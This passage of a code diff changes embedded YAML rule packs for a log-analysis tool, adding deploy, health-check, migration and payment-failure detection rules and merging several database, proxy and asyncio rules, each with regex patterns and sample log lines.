@@ -1,10 +1,286 @@
 /// The packs of rules/packs as they are built in. Made by `./dev packs`; a test holds that the two are equal.
 package enum EmbeddedPacks {
   package static let all: [(name: String, text: String)] = [
+    ("deploy", deploy),
     ("http", http),
     ("python-web", pythonWeb),
+    ("runtime", runtime),
     ("security", security),
   ]
+
+  private static let deploy = ##"""
+    pack: deploy
+    title: Releases and starts
+    description: New releases, rollbacks, starts that fail, health checks, migrations, configuration
+
+    rules:
+      # What happened when: notes that explain what other rules find
+
+      - id: rollout
+        title: A new release is rolled out
+        severity: P3
+        status: stable
+        pattern: >-
+          (?i)^(?:rollout|deploy(?:ing|ment)?)(?: (?:of|started|begun|version|release)\b| \w+=|$)|^(?:release|version) \S+
+          (?:deployed|released)\b|^deployed (?:release|version)
+        tags: [release]
+        samples:
+          hit:
+            - '2026-11-23 06:49:49,986 INFO [deploy] [-] rollout release=v2 from_pct=10 to_pct=50'
+            - '2026-11-23 06:49:49,986 INFO [deploy] [-] deployment started version=2026.11.3'
+          miss:
+            - '2026-11-23 06:49:49,986 INFO [deploy] [-] deployment is allowed between 9 and 17'
+
+      - id: rollback
+        title: A release is taken back
+        severity: P2
+        status: stable
+        pattern: >-
+          ^[Rr]oll(?:back|ing back|ed back)(?: (?:to|of) (?:release|version|revision)\b| \w+=|$)|\bdeployment\S* (?:was
+          )?rolled back\b|^Rollback was a success
+        where: 'not (logger ~ "(?i)sql|(^|\.)db")'
+        message: 'a release was taken back'
+        tags: [release]
+        samples:
+          hit:
+            - '2026-11-23 06:51:29,989 WARNING [deploy] [-] rollback release=v2 from_pct=100 to_pct=0'
+            - '2026-11-23 06:51:29,989 INFO [ops] [-] deployment.apps/web rolled back'
+          miss:
+            - '2026-11-23 06:51:29,989 INFO [sqlalchemy.engine.Engine] [-] ROLLBACK'
+            - '2026-11-23 06:51:29,989 INFO [orders] [-] transaction rolled back'
+
+      - id: process-started
+        title: A process started
+        severity: P3
+        status: stable
+        pattern: >-
+          ^Started server process \[|^Starting gunicorn \d|^Starting development server at|^[Ss]tarting(?: \w+=|$)|^Started
+          \S+ in [\d.]+ seconds|^Server listening (?:on|at)\b
+        message: 'the service started'
+        tags: [start]
+        samples:
+          hit:
+            - 'INFO:     Started server process [26313]'
+            - '[2026-11-23 06:50:48 +0000] [7] [INFO] Starting gunicorn 21.2.0'
+            - '2026-11-23 06:47:54,777 INFO [app] [-] starting pid=7 release=v1'
+          miss:
+            - '2026-11-23 06:50:48,123 INFO [jobs] [-] job started job=expire'
+            - 'INFO:     Finished server process [26313]'
+
+      - id: crash-loop
+        title: The service starts over and over
+        severity: P1
+        status: stable
+        correlation:
+          type: event_count
+          rules: [process-started]
+          timespan: 5m
+          condition: {gte: 5}
+        generate: true
+        message: '{count} starts within 5 minutes'
+        tags: [start, crash]
+        falsepositives: ['logs of many instances in one file, while they are all restarted']
+        samples:
+          hit:
+            - |
+              2026-11-23 06:47:54,777 INFO [app] [-] starting pid=7 release=v1
+              2026-11-23 06:48:24,777 INFO [app] [-] starting pid=9 release=v1
+              2026-11-23 06:48:54,777 INFO [app] [-] starting pid=12 release=v1
+              2026-11-23 06:49:34,777 INFO [app] [-] starting pid=15 release=v1
+              2026-11-23 06:50:24,777 INFO [app] [-] starting pid=21 release=v1
+          miss:
+            - |
+              2026-11-23 06:47:54,777 INFO [app] [-] starting pid=7 release=v1
+              2026-11-23 07:48:24,777 INFO [app] [-] starting pid=9 release=v2
+
+      # Starts that fail
+
+      - id: startup-failed
+        title: The application cannot start
+        severity: P0
+        status: stable
+        pattern: '^Application startup failed\. Exiting\.|^Error loading ASGI app\.|^APPLICATION FAILED TO START'
+        tags: [start, uvicorn]
+        samples:
+          hit:
+            - 'ERROR:    Application startup failed. Exiting.'
+            - 'ERROR:    Error loading ASGI app. Could not import module "app.main".'
+          miss:
+            - 'INFO:     Application startup complete.'
+
+      - id: import-failed
+        title: A module is missing
+        description: Usually the image was built without it, or the code moved.
+        severity: P1
+        status: stable
+        pattern: '^[ |+]*(?:ModuleNotFoundError: No module named|ImportError: cannot import name) ''(?<name>[^'']+)'''
+        message: '{name} cannot be imported'
+        group-by: [name]
+        tags: [start, python, release]
+        falsepositives: ['optional modules whose absence is only logged']
+        samples:
+          hit:
+            - 'ModuleNotFoundError: No module named ''app.billing'''
+            - 'ImportError: cannot import name ''Cart'' from ''app.models'' (/srv/app/models.py)'
+          miss:
+            - '2026-11-23 06:50:48,123 INFO [app] [-] module app.billing is off'
+
+      - id: config-missing
+        title: Configuration is missing or wrong
+        severity: P1
+        status: stable
+        pattern: >-
+          \bvalidation errors? for \w*(?:Settings|Config)\b|\bImproperlyConfigured: |^KeyError:
+          '[A-Z]+_[A-Z0-9_]+'$|(?i)\bmissing (?:required )?environment variable|\benvironment variable \S+ (?:is )?(?:not
+          set|missing|required|must be set)
+        tags: [start, configuration]
+        samples:
+          hit:
+            - 'pydantic_core._pydantic_core.ValidationError: 2 validation errors for Settings'
+            - 'django.core.exceptions.ImproperlyConfigured: The SECRET_KEY setting must not be empty.'
+            - '2026-11-23 06:50:48,123 ERROR [app] [-] environment variable DATABASE_URL is not set'
+            - 'KeyError: ''DATABASE_URL'''
+          miss:
+            - '2026-11-23 06:50:48,123 INFO [app] [-] environment variable LOG_LEVEL is set'
+            - 'pydantic_core._pydantic_core.ValidationError: 1 validation error for Order'
+            - 'KeyError: ''order_id'''
+
+      # Health checks, as orchestrators and the service itself tell them
+
+      - id: health-check-failed
+        title: A health check failed
+        severity: P2
+        status: stable
+        pattern: >-
+          (?i)\b(?:readiness|liveness|startup) probe failed\b|\bhealth[ -]?checks? (?:has |have )?failed\b|\bfailed
+          health[ -]?checks?\b|\bLayer[467] (?:check failed|timeout|wrong status|connection problem)
+        tags: [health, kubernetes, haproxy]
+        samples:
+          hit:
+            - 'Readiness probe failed: HTTP probe failed with statuscode: 503'
+            - 'Nov 23 06:47:55 lb haproxy[7]: Server app/web1 is DOWN, reason: Layer4 connection problem'
+            - '2026-11-23 06:50:48,123 ERROR [app] [-] health check failed: database'
+          miss:
+            - 'Nov 23 06:47:55 lb haproxy[7]: Server app/web1 is UP, reason: Layer7 check passed, code: 200'
+            - '2026-11-23 06:50:48,123 INFO [app] [-] health check passed'
+
+      - id: health-route-failed
+        title: The health route answered with an error
+        severity: P2
+        status: stable
+        on: path
+        pattern: '^/(?:health|ready|live|ping|status)(?:z|check|ness)?/?$|^/actuator/health'
+        where: 'status >= 500'
+        message: '{path} answered {status}'
+        group-by: [path]
+        tags: [health, http]
+        samples:
+          hit:
+            - '10.0.0.7 - - [23/Nov/2026:06:47:55 +0000] "GET /healthz HTTP/1.1" 503 12 "-" "kube-probe/1.31"'
+          miss:
+            - '10.0.0.7 - - [23/Nov/2026:06:47:55 +0000] "GET /healthz HTTP/1.1" 200 12 "-" "kube-probe/1.31"'
+            - '10.0.0.7 - - [23/Nov/2026:06:47:55 +0000] "GET /health-tips/7 HTTP/1.1" 500 12 "-" "curl/8"'
+
+      - id: health-failing
+        title: Health checks fail, again and again
+        severity: P1
+        status: stable
+        correlation:
+          type: event_count
+          rules: [health-check-failed, health-route-failed]
+          timespan: 2m
+          condition: {gte: 3}
+        generate: true
+        message: '{count} health checks failed within 2 minutes'
+        tags: [health]
+        samples:
+          hit:
+            - |
+              2026-11-23 06:50:48,123 ERROR [app] [-] health check failed: database
+              2026-11-23 06:50:58,123 ERROR [app] [-] health check failed: database
+              2026-11-23 06:51:08,123 ERROR [app] [-] health check failed: database
+          miss:
+            - |
+              2026-11-23 06:50:48,123 ERROR [app] [-] health check failed: database
+              2026-11-23 06:50:58,123 INFO [app] [-] health check passed
+              2026-11-23 06:57:08,123 ERROR [app] [-] health check failed: database
+
+      # Orchestrators
+
+      - id: orchestrator-gave-up
+        title: What runs the service cannot start it
+        description: >-
+          Kubernetes, Helm, systemd. A container that crashes at each start, an image that is not there, a rollout that
+          stands still.
+        severity: P1
+        status: stable
+        pattern: >-
+          CrashLoopBackOff|Back-off restarting failed container|Start request repeated too
+          quickly|ImagePullBackOff|ErrImagePull|Failed to pull image "|exceeded its progress deadline|UPGRADE FAILED:
+          |\bdeployment failed\b
+        tags: [start, crash, release, kubernetes, helm, systemd]
+        samples:
+          hit:
+            - 'Warning  BackOff  kubelet  Back-off restarting failed container app in pod web-7d9f_default'
+            - 'Nov 23 06:47:54 host systemd[1]: app.service: Start request repeated too quickly.'
+            - 'Warning  Failed  kubelet  Failed to pull image "example.org/web:2026.11.3": not found'
+            - 'error: deployment "web" exceeded its progress deadline'
+            - 'Error: UPGRADE FAILED: timed out waiting for the condition'
+          miss:
+            - 'Normal  Started  kubelet  Started container app'
+            - 'Normal  Pulled  kubelet  Successfully pulled image "example.org/web:2026.11.3" in 2.1s'
+            - 'deployment "web" successfully rolled out'
+
+      - id: shutdown-not-graceful
+        title: A process did not end in the time it had
+        description: Requests that it was at work on were cut off.
+        severity: P2
+        status: stable
+        pattern: >-
+          timeout graceful shutdown exceeded|State '(?:stop-sigterm|final-sigterm)' timed out|[Gg]raceful shutdown (?:timed
+          out|failed)
+        tags: [stop, uvicorn, systemd]
+        samples:
+          hit:
+            - 'ERROR:    Cancel 3 running task(s), timeout graceful shutdown exceeded'
+            - 'Nov 23 06:47:54 host systemd[1]: app.service: State ''stop-sigterm'' timed out. Killing.'
+          miss:
+            - 'INFO:     Application shutdown complete.'
+
+      # Migrations
+
+      - id: migration-failed
+        title: A migration cannot run
+        severity: P1
+        status: stable
+        pattern: >-
+          Can't locate revision identified by '|Target database is not up to date\.|Multiple head revisions are
+          present|InconsistentMigrationHistory|Conflicting migrations detected|(?i)\bmigration (?:\S+ )?failed\b
+        tags: [release, database, alembic, django]
+        samples:
+          hit:
+            - 'alembic.util.exc.CommandError: Can''t locate revision identified by ''4711abcd'''
+            - 'CommandError: Conflicting migrations detected; multiple leaf nodes in the migration graph'
+          miss:
+            - 'INFO  [alembic.runtime.migration] Running upgrade 4711 -> 4712, add orders'
+
+      - id: schema-behind
+        title: The code wants a table or column that is not there
+        description: The release came before its migration, or the migration did not run.
+        severity: P1
+        status: stable
+        pattern: >-
+          \b(?:UndefinedTable|UndefinedColumn)(?:Error)?\b|\bno such (?:table|column): \w|\b(?:relation|column) "[^"]+"
+          (?:of relation "[^"]+" )?does not exist|\b(?:1146|1054), ["'](?:Table|Unknown column) '
+        tags: [release, database]
+        samples:
+          hit:
+            - 'psycopg2.errors.UndefinedColumn: column "plate" of relation "cars" does not exist'
+            - 'sqlite3.OperationalError: no such table: orders'
+            - 'pymysql.err.ProgrammingError: (1146, "Table ''shop.orders'' doesn''t exist")'
+          miss:
+            - '2026-11-23 06:50:48,123 INFO [orders] [-] order 7 does not exist'
+    """##
 
   private static let http = ##"""
     pack: http
@@ -157,21 +433,6 @@ package enum EmbeddedPacks {
             - |
               2026-11-23 06:50:48,101 INFO [access] [a1] finished method=GET path=/export status=200 duration_ms=400
               2026-11-23 06:50:52,101 INFO [access] [a2] finished method=GET path=/export status=200 duration_ms=1900
-
-      - id: http-very-slow-request
-        title: A very slow request
-        severity: P3
-        status: stable
-        where: 'duration > 10s and status >= 100'
-        message: '{route} took {duration}'
-        group-by: [route]
-        tags: [http, slow]
-        falsepositives: ['long polling, exports']
-        samples:
-          hit:
-            - '2026-11-23 06:50:48,123 INFO [access] [a1] finished method=GET path=/export status=200 duration_ms=31000'
-          miss:
-            - '2026-11-23 06:50:48,123 INFO [access] [a1] finished method=GET path=/export status=200 duration_ms=310'
 
       - id: http-unfinished
         title: Requests that began and never ended
@@ -487,7 +748,7 @@ package enum EmbeddedPacks {
           miss:
             - '2026-11-23 06:50:48,123 INFO [db] [-] 0 connections idle in transaction'
 
-      # Writes and queries
+      # Writes, payments, queries
 
       - id: write-failed
         title: A write failed
@@ -533,6 +794,49 @@ package enum EmbeddedPacks {
               2026-11-23 06:50:48,101 ERROR [profile] [a1] profile save failed user_id=7
               2026-11-23 06:55:49,101 ERROR [profile] [a2] profile save failed user_id=9
 
+      - id: payment-failed
+        title: A payment failed
+        severity: P2
+        status: stable
+        on: message
+        pattern: >-
+          (?i)\b(?:payment|charge|checkout|refund|invoice)s?\b(?: \w+){0,3} (?:failed|unavailable|timed out)\b|\bfailed to
+          (?:charge|refund|pay)\b
+        where: 'level >= error'
+        message: '{logger}: a payment failed'
+        group-by: [logger]
+        tags: [payment]
+        samples:
+          hit:
+            - '2026-11-23 06:50:48,123 ERROR [shop] [8165e189] payment lookup failed payment_id=7'
+            - '2026-11-23 06:50:48,123 ERROR [shop] [8165e189] order failed: payment unavailable order_id=7'
+          miss:
+            - '2026-11-23 06:50:48,123 INFO [shop] [8165e189] payment served payment_id=7'
+            - '2026-11-23 06:50:48,123 WARNING [shop] [8165e189] payment failed: card declined'
+
+      - id: payments-failing
+        title: Payments fail, one after another
+        severity: P1
+        status: stable
+        correlation:
+          type: event_count
+          rules: [payment-failed]
+          timespan: 30s
+          condition: {gte: 3}
+        generate: true
+        message: '{count} payments failed within 30 s'
+        tags: [payment]
+        samples:
+          hit:
+            - |
+              2026-11-23 06:50:48,101 ERROR [shop] [a1] order failed: payment unavailable order_id=7
+              2026-11-23 06:50:49,101 ERROR [shop] [a2] order failed: payment unavailable order_id=9
+              2026-11-23 06:50:52,101 ERROR [bills] [a3] payment lookup failed payment_id=4
+          miss:
+            - |
+              2026-11-23 06:50:48,101 ERROR [shop] [a1] order failed: payment unavailable order_id=7
+              2026-11-23 06:52:49,101 ERROR [shop] [a2] order failed: payment unavailable order_id=9
+
       - id: db-query-failed
         title: A query failed
         severity: P2
@@ -549,65 +853,45 @@ package enum EmbeddedPacks {
           miss:
             - '2026-11-23 06:50:48,123 WARNING [db] [8165e189] slow query orders took 207.4 ms'
 
-      - id: db-queries-failing
-        title: Many queries fail
-        severity: P1
-        status: stable
-        correlation:
-          type: event_count
-          rules: [db-query-failed]
-          group-by: [logger]
-          timespan: 2s
-          condition: {gte: 10}
-        generate: true
-        message: '{logger}: {count} queries failed within 2 s'
-        tags: [database]
-        samples:
-          hit:
-            - |
-              2026-11-23 06:50:48,101 ERROR [db] [a1] query failed query=orders
-              2026-11-23 06:50:48,102 ERROR [db] [a2] query failed query=orders
-              2026-11-23 06:50:48,103 ERROR [db] [a3] query failed query=orders
-              2026-11-23 06:50:48,104 ERROR [db] [a4] query failed query=carts
-              2026-11-23 06:50:48,105 ERROR [db] [a5] query failed query=orders
-              2026-11-23 06:50:48,106 ERROR [db] [a6] query failed query=orders
-              2026-11-23 06:50:48,107 ERROR [db] [a7] query failed query=users
-              2026-11-23 06:50:48,108 ERROR [db] [a8] query failed query=orders
-              2026-11-23 06:50:48,109 ERROR [db] [a9] query failed query=orders
-              2026-11-23 06:50:48,110 ERROR [db] [b1] query failed query=users
-          miss:
-            - |
-              2026-11-23 06:50:48,101 ERROR [db] [a1] query failed query=orders
-              2026-11-23 06:50:52,102 ERROR [db] [a2] query failed query=orders
-
       # Proxies
 
-      - id: upstream-timed-out
-        title: A proxy waited in vain for the service
+      - id: upstream-answer-missing
+        title: A proxy got no proper answer from the service
+        description: nginx, Envoy. It waited in vain, was refused, or the service broke off.
         severity: P2
         status: stable
-        pattern: 'upstream timed out \(110: |upstream request timeout|(?i)\bgateway time-?out\b'
+        pattern: >-
+          upstream timed out \(110: |upstream request timeout|connect\(\) failed \(\d+: [^)]+\) while connecting to
+          upstream|upstream prematurely closed connection|upstream sent (?:too big header|invalid header|no valid
+          HTTP)|(?:504|408) (?:Gateway|Request) Time-?[Oo]ut\b
         tags: [proxy, nginx, envoy, timeout]
         samples:
           hit:
             - >-
               2026/11/23 06:47:55 [error] 7#7: *1 upstream timed out (110: Connection timed out) while reading response
               header from upstream, client: 10.0.0.7, server: example.org, request: "GET /orders HTTP/1.1"
+            - >-
+              2026/11/23 06:47:55 [error] 7#7: *1 connect() failed (111: Connection refused) while connecting to upstream,
+              client: 10.0.0.7, server: example.org, request: "GET / HTTP/1.1", upstream: "http://127.0.0.1:8000/"
+            - >-
+              2026/11/23 06:47:55 [error] 7#7: *1 upstream prematurely closed connection while reading response header from
+              upstream
             - 'httpx.HTTPStatusError: Server error ''504 Gateway Timeout'' for url ''https://api.example.org/orders'''
           miss:
+            - '2026/11/23 06:47:55 [info] 7#7: *1 client 10.0.0.7 closed keepalive connection'
             - '2026/11/23 06:47:55 [notice] 7#7: gracefully shutting down'
 
-      - id: upstream-timing-out
-        title: A proxy waits in vain again and again
+      - id: upstream-answers-missing
+        title: A proxy gets no proper answers, again and again
         severity: P1
         status: stable
         correlation:
           type: event_count
-          rules: [upstream-timed-out]
+          rules: [upstream-answer-missing]
           timespan: 30s
           condition: {gte: 5}
         generate: true
-        message: '{count} requests timed out behind the proxy within 30 s'
+        message: '{count} requests got no proper answer from behind the proxy within 30 s'
         tags: [proxy, timeout]
         samples:
           hit:
@@ -621,26 +905,6 @@ package enum EmbeddedPacks {
             - |
               2026/11/23 06:47:51 [error] 7#7: *1 upstream timed out (110: Connection timed out)
               2026/11/23 06:49:52 [error] 7#7: *2 upstream timed out (110: Connection timed out)
-
-      - id: nginx-upstream-error
-        title: nginx got no proper answer from the service
-        severity: P2
-        status: stable
-        pattern: >-
-          connect\(\) failed \(\d+: [^)]+\) while connecting to upstream|upstream prematurely closed connection|upstream
-          sent (?:too big header|invalid header|no valid HTTP)|recv\(\) failed \(104: Connection reset by peer\) while
-          reading response header
-        tags: [proxy, nginx]
-        samples:
-          hit:
-            - >-
-              2026/11/23 06:47:55 [error] 7#7: *1 connect() failed (111: Connection refused) while connecting to upstream,
-              client: 10.0.0.7, server: example.org, request: "GET / HTTP/1.1", upstream: "http://127.0.0.1:8000/"
-            - >-
-              2026/11/23 06:47:55 [error] 7#7: *1 upstream prematurely closed connection while reading response header from
-              upstream
-          miss:
-            - '2026/11/23 06:47:55 [info] 7#7: *1 client 10.0.0.7 closed keepalive connection'
 
       - id: proxy-no-server
         title: The proxy has no server left
@@ -710,7 +974,7 @@ package enum EmbeddedPacks {
         description: These types mean that the code is wrong, not that the world is. Look for the release that brought it.
         severity: P2
         status: stable
-        pattern: '^[ |+]*(?<exc_type>(?:Type|Attribute|Name|UnboundLocal|ZeroDivision|Index|NotImplemented)Error)(?::|$)'
+        pattern: '^[ |+]*(?<exc_type>(?:Type|Attribute|Name|UnboundLocal|ZeroDivision|Index|Recursion)Error)(?::|$)'
         message: '{exc_type} in the code'
         group-by: [exc_type]
         tags: [python, exception, release]
@@ -723,6 +987,7 @@ package enum EmbeddedPacks {
               Traceback (most recent call last):
                 File "/srv/app/orders.py", line 12, in total
               TypeError: unsupported operand type(s) for +: 'int' and 'NoneType'
+            - 'RecursionError: maximum recursion depth exceeded while calling a Python object'
           miss:
             - 'ConnectionError: [Errno 110] Connection timed out'
             - 'TypeErrors are counted by the linter'
@@ -734,11 +999,11 @@ package enum EmbeddedPacks {
           Roll back, or keep that input away.
         severity: P1
         status: stable
-        pattern: '^[ |+]*(?<exc_type>(?:Type|Attribute|Name|UnboundLocal|Index|NotImplemented)Error)(?::|$)'
+        pattern: '^[ |+]*(?<exc_type>(?:Type|Attribute|Name|UnboundLocal|ZeroDivision|Index|Recursion)Error)(?::|$)'
         where: >-
           level >= error and
-          message ~ "(?i)(save|store|write|update|insert|commit|delete|upload|create)( [a-z]+){0,3} failed|(failed|unable|could not)
-          (to )?(save|store|write|update|insert|commit|delete|upload|create)"
+          message ~ "(?i)\b(save|store|write|update|insert|commit|delete|upload|create)\b( [a-z]+){0,3}
+          failed|(failed|unable|could not) (to )?(save|store|write|update|insert|commit|delete|upload|create)\b"
         message: '{logger}: a write fails with {exc_type}'
         group-by: [logger]
         tags: [python, exception, data, release]
@@ -782,18 +1047,6 @@ package enum EmbeddedPacks {
             - 'INFO:     Started server process [26313]'
             - '2026-11-23 06:50:48,123 INFO [docs] [-] page served title="Internal Server Error explained"'
 
-      - id: python-recursion-limit
-        title: The recursion limit was reached
-        severity: P2
-        status: stable
-        pattern: '^[ |+]*RecursionError: maximum recursion depth exceeded'
-        tags: [python, exception]
-        samples:
-          hit:
-            - 'RecursionError: maximum recursion depth exceeded while calling a Python object'
-          miss:
-            - '2026-11-23 06:50:48,123 INFO [tree] [-] maximum recursion depth is 1000'
-
       - id: python-memory-error
         title: Python could not get memory
         severity: P1
@@ -813,41 +1066,33 @@ package enum EmbeddedPacks {
 
       # asyncio
 
-      - id: asyncio-exception-never-retrieved
-        title: A task failed and nobody looked
-        description: What the task was to do is not done. Keep the task, and await it or give it a done callback.
+      - id: asyncio-task-lost
+        title: A task failed or vanished, and nobody looked
+        description: >-
+          What the task was to do is not done. Keep the task, and await it or give it a done callback; a coroutine that was
+          never awaited did not even begin.
         severity: P2
         status: stable
-        pattern: '(?:Task|Future) exception was never retrieved'
+        pattern: >-
+          (?:Task|Future) exception was never retrieved|Task was destroyed but it is pending!|coroutine '[^']+' was never
+          awaited
         tags: [python, asyncio]
         samples:
           hit:
             - '2026-11-23 06:50:48,123 ERROR [asyncio] [-] Task exception was never retrieved'
             - 'ERROR:asyncio:_GatheringFuture exception was never retrieved'
-          miss:
-            - '2026-11-23 06:50:48,123 INFO [worker] [-] the result of task 7 was never retrieved'
-
-      - id: asyncio-never-awaited
-        title: A coroutine was never awaited
-        description: The call did nothing at all. An await is missing.
-        severity: P2
-        status: stable
-        pattern: 'coroutine ''(?<coroutine>[^'']+)'' was never awaited'
-        message: '{coroutine} was called and never awaited'
-        group-by: [coroutine]
-        tags: [python, asyncio]
-        samples:
-          hit:
+            - 'ERROR:asyncio:Task was destroyed but it is pending!'
             - '/srv/app/mail.py:31: RuntimeWarning: coroutine ''send_receipt'' was never awaited'
           miss:
-            - 'coroutine ''send_receipt'' was cancelled'
+            - '2026-11-23 06:50:48,123 INFO [worker] [-] the result of task 7 was never retrieved'
+            - '2026-11-23 06:50:48,123 INFO [worker] [-] Task was cancelled while it was pending'
 
       - id: asyncio-slow-callback
         title: Something blocked the event loop
         description: In debug mode asyncio names callbacks of more than 100 ms. All other requests waited that long.
         severity: P3
         status: stable
-        pattern: '^Executing <(?:Task|Handle|TimerHandle).{1,400} took (?<seconds>\d+\.\d+) seconds'
+        pattern: 'Executing <(?:Task|Handle|TimerHandle).{1,400} took (?<seconds>\d+\.\d+) seconds'
         message: 'the event loop stood still for {seconds} s'
         tags: [python, asyncio, slow]
         samples:
@@ -857,18 +1102,6 @@ package enum EmbeddedPacks {
               took 1.204 seconds
           miss:
             - 'INFO:worker:Executing <Report 7> on worker 2'
-
-      - id: asyncio-task-destroyed
-        title: A task was destroyed before it ended
-        severity: P2
-        status: stable
-        pattern: 'Task was destroyed but it is pending!'
-        tags: [python, asyncio]
-        samples:
-          hit:
-            - 'ERROR:asyncio:Task was destroyed but it is pending!'
-          miss:
-            - '2026-11-23 06:50:48,123 INFO [worker] [-] Task was cancelled while it was pending'
 
       # uvicorn, gunicorn
 
@@ -885,41 +1118,22 @@ package enum EmbeddedPacks {
           miss:
             - '[2026-11-23 06:50:48 +0000] [7310] [INFO] Booting worker with pid: 7310'
 
-      - id: gunicorn-workers-timing-out
-        title: Worker after worker does not answer
-        severity: P1
-        status: stable
-        correlation:
-          type: event_count
-          rules: [gunicorn-worker-timeout]
-          timespan: 5m
-          condition: {gte: 3}
-        generate: true
-        message: '{count} workers were killed for not answering'
-        tags: [python, gunicorn]
-        samples:
-          hit:
-            - |
-              [2026-11-23 06:50:48 +0000] [1637] [CRITICAL] WORKER TIMEOUT (pid:7214)
-              [2026-11-23 06:51:18 +0000] [1637] [CRITICAL] WORKER TIMEOUT (pid:7284)
-              [2026-11-23 06:51:20 +0000] [1637] [CRITICAL] WORKER TIMEOUT (pid:7289)
-          miss:
-            - |
-              [2026-11-23 06:50:48 +0000] [1637] [CRITICAL] WORKER TIMEOUT (pid:7214)
-              [2026-11-23 06:57:18 +0000] [1637] [CRITICAL] WORKER TIMEOUT (pid:7284)
-
-      - id: gunicorn-worker-killed
+      - id: worker-killed
         title: A worker was killed, perhaps for its memory
+        description: gunicorn and Celery (billiard).
         severity: P1
         status: stable
-        pattern: 'Worker \(pid:\d+\) was sent SIGKILL!|Worker with pid \d+ was terminated due to signal 9'
-        tags: [python, gunicorn, memory]
+        pattern: >-
+          Worker \(pid:\d+\) was sent SIGKILL!|Worker with pid \d+ was terminated due to signal 9|Worker exited
+          prematurely: signal (?:9|11)
+        tags: [python, gunicorn, celery, memory]
         falsepositives:
           - a worker that gunicorn itself killed after WORKER TIMEOUT
         samples:
           hit:
             - '[2026-11-23 06:50:48 +0000] [7] [ERROR] Worker (pid:21) was sent SIGKILL! Perhaps out of memory?'
             - '[2026-11-23 06:50:48 +0000] [7] [WARNING] Worker with pid 14824 was terminated due to signal 9'
+            - 'billiard.exceptions.WorkerLostError: Worker exited prematurely: signal 9 (SIGKILL) Job: 7.'
           miss:
             - '[2026-11-23 06:50:48 +0000] [7] [WARNING] Worker with pid 14824 was terminated due to signal 15'
             - '[2026-11-23 06:50:48 +0000] [21] [INFO] Worker exiting (pid: 21)'
@@ -1009,7 +1223,8 @@ package enum EmbeddedPacks {
         status: stable
         pattern: >-
           server closed the connection unexpectedly|SSL connection has been closed unexpectedly|SSL SYSCALL
-          error:|terminating connection due to administrator command|Lost connection to MySQL server|MySQL server has gone away
+          error:|terminating connection due to administrator command|Lost connection to MySQL server|MySQL server has
+          gone away
         tags: [database, postgresql, mysql]
         samples:
           hit:
@@ -1022,109 +1237,67 @@ package enum EmbeddedPacks {
           miss:
             - '2026-11-23 06:50:48,123 INFO [db] [-] server closed 3 idle connections'
 
-      - id: db-connections-burst
-        title: The database closes many connections
-        severity: P1
-        status: stable
-        correlation:
-          type: event_count
-          rules: [db-connection-closed]
-          timespan: 1m
-          condition: {gte: 10}
-        generate: true
-        message: '{count} connections were closed by the database'
-        tags: [database]
-        samples:
-          hit:
-            - |
-              2026-11-23 06:50:48,001 ERROR [db] [-] server closed the connection unexpectedly
-              2026-11-23 06:50:48,002 ERROR [db] [-] server closed the connection unexpectedly
-              2026-11-23 06:50:48,003 ERROR [db] [-] server closed the connection unexpectedly
-              2026-11-23 06:50:48,004 ERROR [db] [-] server closed the connection unexpectedly
-              2026-11-23 06:50:48,005 ERROR [db] [-] server closed the connection unexpectedly
-              2026-11-23 06:50:48,006 ERROR [db] [-] server closed the connection unexpectedly
-              2026-11-23 06:50:48,007 ERROR [db] [-] server closed the connection unexpectedly
-              2026-11-23 06:50:48,008 ERROR [db] [-] server closed the connection unexpectedly
-              2026-11-23 06:50:48,009 ERROR [db] [-] server closed the connection unexpectedly
-              2026-11-23 06:50:48,010 ERROR [db] [-] server closed the connection unexpectedly
-          miss:
-            - |
-              2026-11-23 06:50:48,001 ERROR [db] [-] server closed the connection unexpectedly
-              2026-11-23 06:50:48,002 ERROR [db] [-] server closed the connection unexpectedly
-
-      - id: db-unavailable
-        title: The database takes no connections
+      - id: db-refuses-connections
+        title: The database takes no more connections
+        description: It is down or starting, or all its connections are taken.
         severity: P1
         status: stable
         pattern: >-
-          the database system is (?:starting up|shutting down|in recovery mode|not accepting connections)|connection to
-          server at "[^"]+"(?: \([^)]*\))?, port \d+ failed: Connection refused|Can't connect to (?:local )?MySQL server
-        tags: [database, postgresql, mysql]
+          the database system is (?:starting up|shutting down|in recovery mode|not accepting)|connection to server at
+          "[^"]+"(?: \([^)]*\))?, port \d+ failed: Connection refused|Can't connect to (?:local )?MySQL server|sorry, too
+          many clients already|remaining connection slots are reserved for|too many connections for
+          (?:role|database)|\(1040, ["']Too many connections|no more connections allowed \(max_client_conn\)
+        tags: [database, postgresql, mysql, pgbouncer]
         samples:
           hit:
             - 'FATAL:  the database system is starting up'
             - 'connection to server at "db" (10.0.0.9), port 5432 failed: Connection refused'
             - 'pymysql.err.OperationalError: (2003, "Can''t connect to MySQL server on ''db'' ([Errno 111] refused)")'
-          miss:
-            - 'LOG:  database system is ready to accept connections'
-
-      - id: db-too-many-clients
-        title: The database has no connection left
-        severity: P1
-        status: stable
-        pattern: >-
-          sorry, too many clients already|remaining connection slots are reserved for|too many connections for
-          (?:role|database)|\(1040, ["']Too many connections|no more connections allowed \(max_client_conn\)
-        tags: [database, postgresql, mysql, pgbouncer]
-        samples:
-          hit:
             - 'psycopg2.OperationalError: FATAL:  sorry, too many clients already'
             - 'FATAL:  remaining connection slots are reserved for roles with the SUPERUSER attribute'
             - 'pymysql.err.OperationalError: (1040, ''Too many connections'')'
           miss:
+            - 'LOG:  database system is ready to accept connections'
             - '2026-11-23 06:50:48,123 INFO [db] [-] max_connections is 100, 12 clients connected'
 
-      - id: db-deadlock
-        title: Transactions got in each other's way
-        description: The database ended one of them. It has to be tried again.
+      - id: db-transaction-ended
+        title: The database ended a transaction
+        description: A deadlock, a conflict with another transaction, or a wait that was too long. It has to be tried again.
         severity: P2
         status: stable
-        pattern: 'deadlock detected|Deadlock found when trying to get lock|could not serialize access due to'
-        tags: [database, postgresql, mysql]
+        pattern: >-
+          deadlock detected|Deadlock found when trying to get lock|could not serialize access due to|canceling statement
+          due to (?:statement|lock) timeout|Lock wait timeout exceeded
+        tags: [database, postgresql, mysql, slow]
         samples:
           hit:
             - 'psycopg2.errors.DeadlockDetected: deadlock detected'
             - 'psycopg.errors.SerializationFailure: could not serialize access due to concurrent update'
-          miss:
-            - 'LOG:  process 9 acquired ShareLock on transaction 12 after 1003.1 ms'
-
-      - id: db-statement-timeout
-        title: The database cancelled a statement that took too long
-        severity: P2
-        status: stable
-        pattern: 'canceling statement due to (?<cause>statement|lock) timeout|Lock wait timeout exceeded'
-        tags: [database, postgresql, mysql, slow]
-        samples:
-          hit:
             - 'psycopg2.errors.QueryCanceled: canceling statement due to statement timeout'
